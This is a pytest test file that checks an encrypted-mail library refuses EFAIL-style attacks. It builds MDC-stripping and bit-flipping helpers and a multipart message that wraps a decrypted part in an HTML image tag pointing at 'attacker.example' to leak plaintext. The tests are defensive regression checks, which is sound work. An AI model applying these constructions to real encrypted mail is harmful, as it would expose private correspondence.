"""EFAIL (Poddebniak et al., USENIX Security 2018): CBC/CFB malleability gadgets and
direct exfiltration. Each rule that defeats it has a test that fails if it breaks."""

from __future__ import annotations

import io

import pytest
import strategies as s

import e2ee_mail
from e2ee_mail.errors import DECRYPTION_FAILED


def _legacy_cms() -> tuple[bytes, e2ee_mail.SecretKey]:
    key = s.keys().x509_rsa
    data = e2ee_mail.encrypt(
        s.PLAINTEXT, key.public, format="cms", cipher="aes-256-cbc"
    )
    return bytes(data), key


def test_legacy_cms_cbc_without_opt_in_is_policy_error_naming_the_opt_in() -> None:
    data, key = _legacy_cms()
    with pytest.raises(e2ee_mail.PolicyError, match="allow_unauthenticated"):
        e2ee_mail.decrypt(data, key)
    with pytest.raises(e2ee_mail.PolicyError, match="allow_unauthenticated"):
        e2ee_mail.decrypt_stream(io.BytesIO(data), io.BytesIO(), key)


def test_legacy_cms_cbc_opens_only_with_the_opt_in() -> None:
    data, key = _legacy_cms()
    assert e2ee_mail.decrypt(data, key, allow_unauthenticated=True) == s.PLAINTEXT


def test_legacy_smime_cbc_mail_without_opt_in_is_refused() -> None:
    key = s.keys().x509_x25519
    msg = e2ee_mail.encrypt_message(s.sample_mail(), key.public, cipher="aes-256-cbc")
    with pytest.raises(e2ee_mail.PolicyError, match="allow_unauthenticated"):
        e2ee_mail.decrypt_message(msg, key)


def test_seipdv1_without_mdc_is_refused() -> None:
    key = s.keys().pgp4_ecdh
    msg = s.build_seipdv1(key, s.literal_packet(s.PLAINTEXT), mdc=False)
    with pytest.raises(e2ee_mail.DecryptionError) as exc:
        e2ee_mail.decrypt(msg, key)
    assert str(exc.value) == DECRYPTION_FAILED
    out = io.BytesIO()
    with pytest.raises(e2ee_mail.DecryptionError):
        e2ee_mail.decrypt_stream(io.BytesIO(msg), out, key)
    assert out.getvalue() == b""


def test_seipdv1_with_mdc_opens() -> None:
    key = s.keys().pgp4_ecdh
    msg = s.build_seipdv1(key, s.literal_packet(s.PLAINTEXT), mdc=True)
    assert e2ee_mail.decrypt(msg, key) == s.PLAINTEXT


def _strip_to_sed(binary: bytes) -> bytes:
    """The MDC-stripping attack: tag 18 -> tag 9, version octet dropped (the MDC
    trailer stays as garbage the SED reader would happily decrypt)."""
    out = b""
    for sp in s.pgp_spans(binary):
        body = binary[sp.body : sp.end]
        out += s.pgp_packet(9, body[1:]) if sp.tag == 18 else s.pgp_packet(sp.tag, body)
    return out


@pytest.mark.parametrize("name", ["pgp4-ecdh-seipdv1", "pgp4-rsa-seipdv1"])
def test_mdc_stripping_by_rewriting_seipd_to_sed_is_refused(name: str) -> None:
    env = s.envelope(name)
    sed = _strip_to_sed(env.binary)
    with pytest.raises(e2ee_mail.PolicyError, match="no integrity"):
        e2ee_mail.decrypt(sed, env.key)
    out = io.BytesIO()
    with pytest.raises(e2ee_mail.PolicyError, match="no integrity"):
        e2ee_mail.decrypt_stream(io.BytesIO(sed), out, env.key)
    assert out.getvalue() == b""


def test_sed_refused_even_with_allow_unauthenticated() -> None:
    key = s.keys().pgp4_ecdh
    msg = s.build_seipdv1(key, s.literal_packet(s.PLAINTEXT), sed=True)
    with pytest.raises(e2ee_mail.PolicyError):
        e2ee_mail.decrypt(msg, key, allow_unauthenticated=True)


@pytest.mark.parametrize("name", ["pgp4-ecdh-seipdv1", "pgp4-rsa-seipdv1"])
def test_cfb_gadget_bit_flip_in_seipdv1_is_detected(name: str) -> None:
    """CFB is malleable: flipping ciphertext bits flips plaintext bits. The MDC
    must catch every such flip (here, in each block of the body)."""
    env = s.envelope(name)
    span = next(x for x in s.pgp_spans(env.binary) if x.tag == 18)
    for pos in range(span.body + 1, span.end, 16):
        bad = bytearray(env.binary)
        bad[pos] ^= 0x01
        with pytest.raises(e2ee_mail.DecryptionError) as exc:
            e2ee_mail.decrypt(bytes(bad), env.key)
        assert str(exc.value) == DECRYPTION_FAILED


def test_cms_gcm_flip_in_any_ciphertext_byte_is_detected() -> None:
    env = s.envelope("cms-x25519-der")
    n = len(s.PLAINTEXT) + 16  # the ciphertext and the mac end the blob (DER)
    for pos in range(len(env.binary) - n - 8, len(env.binary)):
        bad = bytearray(env.binary)
        bad[pos] ^= 0x80
        try:
            out = e2ee_mail.decrypt(bytes(bad), env.key)
        except e2ee_mail.Error:
            continue
        assert out == s.PLAINTEXT


@pytest.mark.parametrize("name", ["smime-x25519", "pgpmime-v6"])
@pytest.mark.parametrize("where", ["before", "after", "around"])
def test_encrypted_part_beside_plaintext_siblings_is_refused(
    name: str, where: str
) -> None:
    """EFAIL direct exfiltration: <img src="http://evil/ + [decrypted part] + ">."""
    from email import message_from_bytes, policy
    from email.message import EmailMessage

    wire, key = s.mails()[name]
    outer = EmailMessage()
    outer["From"] = "Mallory <m@example.org>"
    outer["To"] = "Bob <bob@example.org>"
    outer["Subject"] = "Re: hi"
    outer.make_mixed()
    open_tag = EmailMessage()
    open_tag.set_content('<img src="http://attacker.example/', subtype="html")
    close_tag = EmailMessage()
    close_tag.set_content('">', subtype="html")
    if where in ("before", "around"):
        outer.attach(open_tag)
    outer.attach(message_from_bytes(wire, policy=policy.default))  # type: ignore[arg-type]
    if where in ("after", "around"):
        outer.attach(close_tag)
    with pytest.raises(e2ee_mail.MIMEError, match="EFAIL"):
        e2ee_mail.decrypt_message(outer, key)
    from e2ee_mail.mime.detect import serialize

    with pytest.raises(e2ee_mail.MIMEError, match="EFAIL"):
        e2ee_mail.decrypt_message(serialize(outer), key)
